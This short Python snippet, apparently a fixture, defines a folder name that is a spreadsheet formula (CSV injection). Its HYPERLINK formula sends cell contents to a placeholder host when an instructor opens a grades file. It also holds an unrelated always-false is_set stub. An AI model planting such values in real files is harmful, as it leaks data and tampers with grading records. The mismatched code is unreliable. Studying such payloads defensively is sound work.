"""Attack the gradebook spreadsheet: a folder named as a formula (CSV injection), which a
spreadsheet would run when the instructor opens grades.csv or the LMS file."""
FOLDER = '=HYPERLINK("https:example.invalid?leak="&A1,"regrade")'


def is_set(cards):
    return False
